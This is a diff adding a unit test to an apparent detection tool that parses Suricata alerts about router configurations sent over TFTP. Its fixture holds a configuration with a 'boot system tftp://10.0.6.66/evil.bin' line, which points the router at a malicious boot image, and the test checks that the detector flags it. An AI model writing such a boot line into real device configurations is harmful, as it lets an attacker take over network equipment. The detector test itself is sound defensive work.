@@ -113,3 +113,14 @@ def test_a_finding_of_suricata_alone_says_what_the_order_named() -> None:
         "10.0.6.66",
         "edge1-confg",
     )
+
+
+def test_of_a_configuration_the_boot_line_names_the_server() -> None:
+    config = b"\0\3\0\1hostname r1\nboot system tftp://10.0.6.66/evil.bin\nint Gi0/0\n ip address 10.0.1.1 255.0.0.0\n"
+    record = alert(config, 53242, src_port=32768, tftp={}, timestamp="2026-01-05T08:00:00+0000")
+    record["alert"] = {"signature": "BOOTWARDEN BW08 It has", "metadata": {"bootwarden_detection": ["BW08"]}}
+    record["alert"]["metadata"]["bootwarden_device"] = ["dest_ip"]
+    found = from_alert(record, "7.0.10")
+    assert found is not None
+    assert (found.server, found.file_name) == ("10.0.6.66", "evil.bin")
+    assert found.detail.endswith(": boot system tftp://10.0.6.66/evil.bin")
